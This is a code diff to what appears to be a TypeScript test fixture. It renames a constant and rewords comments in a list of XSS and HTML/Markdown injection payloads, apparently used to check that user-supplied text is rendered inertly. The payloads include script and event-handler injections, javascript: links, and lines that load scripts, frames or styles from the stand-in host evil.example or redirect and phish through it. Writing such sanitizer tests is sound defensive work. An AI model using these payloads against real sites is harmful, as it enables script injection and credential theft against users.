@@ -1,17 +1,17 @@
-/** Where nobody may ever ask for anything. */
-const AWAY = "//evil.example";
+/** A host that must never be contacted. */
+const EVIL_HOST = "//evil.example";
 const RUN = "window.__xss=1";
 
-/** What strangers write where a name, a description or an error is expected: each would run, fetch or lead away if it were taken for more than text. */
+/** Attacks for names, descriptions, and errors. Each would run code, load something, or navigate if it were not treated as text. */
 export const PAYLOADS: readonly string[] = [
-  // Markup that runs by itself.
+  // Markup that runs code.
   `<script>${RUN}</script>`,
   `<ScRiPt >${RUN}</sCrIpT >`,
-  `<script src=${AWAY}/a.js></script>`,
+  `<script src=${EVIL_HOST}/a.js></script>`,
   `<script type=module>${RUN}</script>`,
   `<img src=x onerror=${RUN}>`,
-  `<img src=${AWAY}/pixel.png>`,
-  `<img srcset="${AWAY}/a.png 2x">`,
+  `<img src=${EVIL_HOST}/pixel.png>`,
+  `<img srcset="${EVIL_HOST}/a.png 2x">`,
   `<img src=x:x onerror="${RUN}" alt='">`,
   `<svg onload=${RUN}>`,
   `<svg><script>${RUN}</script></svg>`,
@@ -21,12 +21,12 @@ export const PAYLOADS: readonly string[] = [
   `<math><mtext><table><mglyph><style><img src onerror=${RUN}></style></mglyph></table></mtext></math>`,
   `<iframe src="javascript:parent.__xss=1"></iframe>`,
   `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
-  `<iframe src=${AWAY}/frame></iframe>`,
+  `<iframe src=${EVIL_HOST}/frame></iframe>`,
   `<object data="javascript:${RUN}"></object>`,
-  `<embed src=${AWAY}/x.swf>`,
+  `<embed src=${EVIL_HOST}/x.swf>`,
   `<video><source onerror=${RUN}></video>`,
   `<audio src=x onerror=${RUN}></audio>`,
-  `<video poster=${AWAY}/poster.png></video>`,
+  `<video poster=${EVIL_HOST}/poster.png></video>`,
   `<body onload=${RUN}>`,
   `<details open ontoggle=${RUN}>details</details>`,
   `<input autofocus onfocus=${RUN}>`,
@@ -35,13 +35,13 @@ export const PAYLOADS: readonly string[] = [
   `<div style="animation-name:x" onanimationstart=${RUN}>moved</div>`,
   `<template shadowrootmode=open><script>${RUN}</script></template>`,
   // Markup that changes what is around it.
-  `<base href=${AWAY}/>`,
-  `<link rel=stylesheet href=${AWAY}/a.css>`,
-  `<link rel=prefetch href=${AWAY}/next>`,
-  `<meta http-equiv=refresh content="0;url=${AWAY}/">`,
-  `<style>@import "${AWAY}/a.css";</style>`,
-  `<style>*{background:url(${AWAY}/css.png)}</style>`,
-  `<form action=${AWAY}><button autofocus>Sign in again</button></form>`,
+  `<base href=${EVIL_HOST}/>`,
+  `<link rel=stylesheet href=${EVIL_HOST}/a.css>`,
+  `<link rel=prefetch href=${EVIL_HOST}/next>`,
+  `<meta http-equiv=refresh content="0;url=${EVIL_HOST}/">`,
+  `<style>@import "${EVIL_HOST}/a.css";</style>`,
+  `<style>*{background:url(${EVIL_HOST}/css.png)}</style>`,
+  `<form action=${EVIL_HOST}><button autofocus>Sign in again</button></form>`,
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
   `</title><script>${RUN}</script>`,
   `</textarea><script>${RUN}</script>`,
@@ -65,8 +65,8 @@ export const PAYLOADS: readonly string[] = [
   // Markdown.
   `[Open settings](javascript:${RUN})`,
   `[a](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==)`,
-  `![picture](https:${AWAY}/md.png)`,
+  `![picture](https:${EVIL_HOST}/md.png)`,
   `![x](x "onerror=${RUN}")<img src=x onerror=${RUN}>`,
-  `<https:${AWAY}/auto> and <javascript:${RUN}>`,
+  `<https:${EVIL_HOST}/auto> and <javascript:${RUN}>`,
   `[x]: javascript:${RUN} "and [x]"`,
 ];
